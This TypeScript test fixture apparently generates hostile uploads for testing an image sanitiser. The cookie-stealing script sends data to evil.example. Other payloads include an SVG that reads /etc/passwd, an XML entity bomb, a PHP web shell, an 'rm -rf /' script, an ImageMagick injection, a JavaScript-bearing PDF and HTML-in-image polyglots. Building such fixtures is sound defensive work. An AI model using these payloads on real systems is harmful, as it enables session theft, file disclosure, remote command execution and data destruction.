import { gzipSync } from 'node:zlib'
import sharp from 'sharp'
import { canary } from './good-pictures.ts'
import {
  ascii,
  intoJpeg,
  intoPng,
  jpegSegment,
  pngChunk,
  pngHeader,
  pngSignature,
  riffChunk,
  riffChunks,
  webp,
} from './picture-parts.ts'
import type { Files, Originals } from './hostile-originals.ts'

const script = `<script>fetch('//evil.example/?'+document.cookie)</script><!-- ${canary} -->`
const html = ascii(`<!doctype html><html><body>${script}</body></html>`)
const svg = ascii(
  `<svg xmlns="http://www.w3.org/2000/svg" width="400" height="400">${script}<rect width="9" height="9"/></svg>`,
)
const nothing = Buffer.alloc(0)

/** Other formats with arbitrary names and types. */
export async function otherFormats({ jpeg }: Originals): Promise<Files> {
  const still = sharp(jpeg)
  const laughs = Array.from({ length: 9 }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`).join('')
  const box = (brand: string): Buffer =>
    Buffer.concat([Buffer.from([0, 0, 0, 24]), ascii(`ftyp${brand}\0\0\0\0mif1${brand}`)])
  return {
    svg,
    'svg with a prologue': Buffer.concat([
      ascii('<?xml version="1.0" encoding="UTF-8"?>\n<!-- x -->\n'),
      svg,
    ]),
    'svg behind a byte order mark': Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), svg]),
    'svg behind blanks': Buffer.concat([ascii(' \n'.repeat(500)), svg]),
    'svg with entities': ascii(
      `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY l0 "lol">${laughs}]><svg xmlns="http://www.w3.org/2000/svg"><text>&l9;</text></svg>`,
    ),
    'svg that reads a file': ascii(
      '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="file:///etc/passwd"/></svg>',
    ),
    svgz: gzipSync(svg),
    html,
    'html in capitals': ascii(`<HTML>${script}`),
    xhtml: ascii(`<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">${script}</html>`),
    gif: await still.clone().gif().toBuffer(),
    'gif with a script behind it': Buffer.concat([ascii('GIF89a/*'), html, ascii('*/=1')]),
    'gif 65535×65535': Buffer.concat([ascii('GIF89a'), Buffer.from([0xff, 0xff, 0xff, 0xff, 0, 0, 0, 0x3b])]),
    pdf: ascii(
      `%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n%%EOF`,
    ),
    tiff: await still.clone().tiff().toBuffer(),
    avif: await still.clone().resize(32).avif({ effort: 0 }).toBuffer(),
    heic: Buffer.concat([box('heic'), Buffer.alloc(200)]),
    bmp: Buffer.concat([ascii('BM'), Buffer.alloc(100)]),
    ico: Buffer.concat([Buffer.from([0, 0, 1, 0, 1, 0]), Buffer.alloc(60)]),
    'jpeg xl': Buffer.concat([Buffer.from([0xff, 0x0a]), Buffer.alloc(60)]),
    'jpeg 2000': Buffer.concat([Buffer.from([0, 0, 0, 12]), ascii('jP  \r\n'), Buffer.alloc(60)]),
    zip: Buffer.concat([ascii('PK\x03\x04'), Buffer.alloc(100)]),
    elf: Buffer.concat([ascii('\x7fELF'), Buffer.alloc(100)]),
    php: ascii('<?php system($_GET["c"]); ?>'),
    'shell script': ascii('#!/bin/sh\nrm -rf /\n'),
    'imagemagick script': ascii(
      'push graphic-context\nviewbox 0 0 640 480\nfill \'url(https://127.0.0.1/x.jpg"|ls "-la)\'\npop graphic-context',
    ),
    mp4: Buffer.concat([box('isom'), Buffer.alloc(200)]),
    'no bytes': nothing,
    'one byte': Buffer.from([0xff]),
    'jpeg magic only': Buffer.from([0xff, 0xd8, 0xff]),
    'jpeg magic and nothing': Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00]),
    'png magic only': pngSignature,
    'png header only': Buffer.concat([pngSignature, pngHeader({ width: 9, height: 9 })]),
    'riff only': ascii('RIFF\x24\0\0\0WEBPVP8 '),
    'wave under a webp coat': Buffer.concat([ascii('RIFF\x24\0\0\0WAVEfmt '), Buffer.alloc(40)]),
  }
}

/** Files of two formats at once. The output must be pixels only. */
export function polyglots({ jpeg, png: whole, webp: lossy, lossless }: Originals): Files {
  const tails: Files = {
    html,
    zip: Buffer.concat([ascii('PK\x03\x04'), html, ascii('PK\x05\x06')]),
    php: ascii(`<?php echo 1; // ${canary} ?>`),
  }
  const files: Record<string, Buffer> = {
    'jpeg with html in its comment': intoJpeg(jpeg, jpegSegment(0xfe, html)),
    'jpeg with html in its first segment': intoJpeg(
      jpeg,
      jpegSegment(0xe0, Buffer.concat([ascii('JFIF\0\x01\x01\0\0\x01\0\x01\0\0'), html])),
    ),
    'png with html in its text': intoPng(whole, pngChunk('tEXt', Buffer.concat([ascii('x\0'), html]))),
    'webp with html in an unknown chunk': webp(
      ...riffChunks(lossy).map((chunk) => riffChunk(chunk.name, chunk.data)),
      riffChunk('HTML', html),
    ),
  }
  for (const [tail, bytes] of Object.entries(tails))
    for (const [name, picture] of Object.entries({
      jpeg,
      png: whole,
      webp: lossy,
      'lossless webp': lossless,
    }))
      files[`${name} with ${tail} behind it`] = Buffer.concat([picture, bytes])
  return files
}

export function fakes(): Files {
  return {
    'html behind a jpeg magic': Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), html]),
    'html behind a png magic': Buffer.concat([pngSignature, ascii('\0\0\0\rIHDR'), html]),
    'html behind a webp magic': Buffer.concat([ascii('RIFF\x90\0\0\0WEBPVP8 '), html]),
    'svg behind a jpeg magic': Buffer.concat([Buffer.from([0xff, 0xd8, 0xff]), svg]),
  }
}
